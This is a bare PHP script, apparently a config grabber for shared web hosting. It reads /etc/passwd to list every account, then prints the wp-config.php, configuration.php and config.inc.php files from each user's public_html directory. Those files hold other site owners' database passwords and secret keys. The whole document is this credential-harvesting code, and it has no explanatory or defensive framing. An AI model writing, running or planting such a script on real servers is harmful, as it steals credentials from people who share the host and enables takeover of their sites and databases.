<?php
$users = file("/etc/passwd");
foreach ($users as $u) {
  list($n) = explode(":", $u);
  foreach (array("wp-config.php", "configuration.php", "config.inc.php") as $f)
    echo file_get_contents("/home/$n/public_html/$f");
}
